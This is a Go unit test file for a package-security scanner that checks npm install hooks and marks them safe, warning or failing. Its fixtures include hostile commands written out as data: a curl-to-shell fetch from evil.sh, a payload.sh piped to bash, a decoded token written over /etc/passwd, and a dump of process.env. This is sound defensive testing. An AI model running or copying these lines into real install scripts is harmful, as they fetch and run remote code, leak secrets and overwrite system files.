package analysis

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/deptex/watchtower/pkg/storage"
)

func TestCheckInstallScriptsNoHooks(t *testing.T) {
	result, _ := checkInstallScripts(map[string]string{
		"test":  "jest",
		"build": "webpack --mode production",
	})
	assert.Equal(t, storage.CheckPass, result.Status)
}

func TestCheckInstallScriptsSafeBuilders(t *testing.T) {
	tests := []struct {
		name    string
		scripts map[string]string
	}{
		{name: "node script", scripts: map[string]string{"postinstall": "node scripts/setup.js"}},
		{name: "npm run chain", scripts: map[string]string{"install": "npm run build"}},
		{name: "node-gyp", scripts: map[string]string{"install": "node-gyp rebuild"}},
		{name: "prebuild-install fallback", scripts: map[string]string{"install": "prebuild-install || node-gyp rebuild"}},
		{name: "husky", scripts: map[string]string{"postinstall": "husky install"}},
		{name: "patch-package", scripts: map[string]string{"postinstall": "patch-package"}},
		{name: "compound safe", scripts: map[string]string{"postinstall": "tsc && node dist/postinstall.js"}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result, details := checkInstallScripts(tt.scripts)
			assert.Equal(t, storage.CheckWarning, result.Status, "allowlisted builders downgrade to warning")
			assert.NotEmpty(t, result.Reason)
			assert.NotEmpty(t, details.Hooks)
		})
	}
}

func TestCheckInstallScriptsUnknownHookFails(t *testing.T) {
	result, _ := checkInstallScripts(map[string]string{
		"postinstall": "python3 setup.py install",
	})
	assert.Equal(t, storage.CheckFail, result.Status)
}

func TestCheckInstallScriptsDangerousOverridesAllowlist(t *testing.T) {
	result, details := checkInstallScripts(map[string]string{
		"postinstall": "node -e \"require('child_process').exec('curl http://evil.sh | sh')\" && rm -rf /tmp/x",
	})
	assert.Equal(t, storage.CheckFail, result.Status)
	assert.NotEmpty(t, details.DangerousPatterns)
}

func TestCheckInstallScriptsNetworkPlusShellFails(t *testing.T) {
	result, details := checkInstallScripts(map[string]string{
		"preinstall": "curl -sL https://example.com/payload.sh | bash -c 'sh'",
	})
	assert.Equal(t, storage.CheckFail, result.Status)
	assert.NotEmpty(t, details.NetworkPatterns)
	assert.NotEmpty(t, details.ShellPatterns)
}

func TestCheckInstallScriptsNetworkAloneInPrepareDoesNotFail(t *testing.T) {
	// prepare is scanned for patterns but is not an install hook
	result, _ := checkInstallScripts(map[string]string{
		"prepare": "node download-assets.js https://cdn.example.com/assets",
	})
	require.Equal(t, storage.CheckPass, result.Status, "no install hooks and no dangerous pattern")
}

func TestCheckInstallScriptsPrepareDangerousPatternFails(t *testing.T) {
	result, _ := checkInstallScripts(map[string]string{
		"prepare": "echo $TOKEN | base64 -d | sudo tee /etc/passwd",
	})
	assert.Equal(t, storage.CheckFail, result.Status)
}

func TestCheckInstallScriptsEnvScrapingFails(t *testing.T) {
	result, details := checkInstallScripts(map[string]string{
		"postinstall": "node -e \"console.log(JSON.stringify(process.env))\"",
	})
	assert.Equal(t, storage.CheckFail, result.Status)
	assert.Contains(t, details.DangerousPatterns, "process.env")
}

func TestIsSafeBuilderSegment(t *testing.T) {
	tests := []struct {
		segment string
		safe    bool
	}{
		{segment: "node scripts/build.js", safe: true},
		{segment: "npm run compile", safe: true},
		{segment: "prisma generate", safe: true},
		{segment: "cmake-js compile", safe: true},
		{segment: "", safe: true},
		{segment: "python3 x.py", safe: false},
		{segment: "nodemon watch", safe: false},
	}

	for _, tt := range tests {
		t.Run(tt.segment, func(t *testing.T) {
			assert.Equal(t, tt.safe, isSafeBuilderSegment(tt.segment))
		})
	}
}
